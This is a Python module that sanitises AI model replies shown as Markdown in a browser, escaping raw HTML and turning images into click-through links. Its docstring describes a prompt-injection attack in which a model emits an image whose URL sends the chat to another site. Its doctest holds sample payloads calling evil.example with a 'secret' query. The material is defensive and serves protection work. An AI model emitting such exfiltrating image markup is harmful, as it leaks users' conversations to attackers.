"""Model text made safe to show as Markdown in a visitor's browser.

A reply is the model's, and a prompt-injected model writes what an attacker wants: an image
whose address carries the chat to another site the moment it renders, or a styled layer over
the page. So, outside code:

* raw HTML shows as text, but for a few inline tags with no attributes (``<b>``, ``<br>``,
  ``<sub>``, …) and Markdown autolinks (``<https://…>``);
* images (``![alt](url)``, ``![alt][ref]``, ``![ref]``) become links (``[🖼 alt](url)``): the
  browser fetches nothing until the visitor clicks.

Code (fenced blocks and inline spans) is left as it is: Markdown shows it as text anyway. The
app's Content-Security-Policy is the second wall: it forbids fetching from other origins.

>>> safe_markdown('**hi** <img src="https://evil.example/?q=secret"> ![x](https://evil.example/p.png)')
'**hi** &lt;img src="https://evil.example/?q=secret"> [🖼 x](https://evil.example/p.png)'
>>> safe_markdown("`<b style='x'>` stays <b>bold</b>")
"`<b style='x'>` stays <b>bold</b>"
"""

from __future__ import annotations

import re

# A backtick fence's info string has no backtick (else the line is no fence).
_FENCE = re.compile(r" {0,3}(`{3,}(?=[^`]*$)|~{3,})")
# An inline code span: a run of backticks, then anything but a blank line up to a run of the
# same length. Wherever this and the browser's Markdown could disagree, this sees less code.
_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(?:(?!\n[ \t]*\n).)+?(?<!`)\1(?!`)", re.DOTALL)
_KEPT_TAG = re.compile(r"</?(?:b|i|em|strong|u|s|del|sub|sup|br|kbd|mark|code)\s*/?>", re.IGNORECASE)
_AUTOLINK = re.compile(r"<(?:https?|mailto):[^\s<>]*>", re.IGNORECASE)
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
_IMAGE = re.compile(r"!\[")


def safe_markdown(text: str) -> str:
    """``text`` with raw HTML shown as text and images turned into links, code untouched."""
    return "".join(part if is_code else _outside_code_spans(part) for is_code, part in _fenced_blocks(text))


def _fenced_blocks(text: str) -> list[tuple[bool, str]]:
    """``text`` cut into (is a fenced code block, its text): a fence opens a line (up to three
    spaces in) with three or more backticks or tildes, and closes at a line of the same
    character, at least as many, and nothing else (or at the end of the text)."""
    parts: list[tuple[bool, str]] = []
    block: list[str] = []
    fence = ""
    for line in text.splitlines(keepends=True):
        opened = _FENCE.match(line)
        if not fence and opened:
            parts.append((False, "".join(block)))
            block, fence = [line], opened.group(1)
            continue
        block.append(line)
        if fence and opened and opened.group(1)[0] == fence[0] and len(opened.group(1)) >= len(fence) \
                and not line.strip().strip(fence[0]):
            parts.append((True, "".join(block)))
            block, fence = [], ""
    parts.append((bool(fence), "".join(block)))
    return parts


def _outside_code_spans(prose: str) -> str:
    parts, at = [], 0
    for span in _CODE_SPAN.finditer(prose):
        parts += [_defuse(prose[at : span.start()]), span.group(0)]
        at = span.end()
    return "".join([*parts, _defuse(prose[at:])])


def _defuse(prose: str) -> str:
    kept: list[str] = []

    def keep(found: re.Match[str]) -> str:
        kept.append(found.group(0))
        return f"\0{len(kept) - 1}\0"

    # NUL is removed first, so it can mark what is kept while the rest is defused.
    marked = _AUTOLINK.sub(keep, _KEPT_TAG.sub(keep, prose.replace("\0", "")))
    defused = _IMAGE.sub("[🖼 ", _TAG_START.sub("&lt;", marked))
    return re.sub(r"\0(\d+)\0", lambda found: kept[int(found.group(1))], defused)
